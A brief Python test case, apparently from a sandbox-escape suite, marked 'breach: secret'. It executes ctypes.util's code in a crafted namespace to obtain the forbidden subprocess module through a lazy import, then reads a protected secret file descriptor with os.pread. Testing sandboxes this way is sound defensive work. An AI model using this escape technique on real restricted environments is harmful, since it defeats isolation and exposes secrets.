# A module of the library, whose lazy imports are of what is not allowed, runs in a cell's namespace.
# breach: secret
# only: 3.15+
import traceback
util = traceback.importlib.util
spec = util.find_spec("ctypes.util")
scope = {"__name__": "ctypes.util", "__package__": "ctypes", "__builtins__": __builtins__}
exec(spec.loader.get_code("ctypes.util"), scope)
exec("held = subprocess", scope)
scope["held"].os.pread(SECRET_FD, 100, 0)
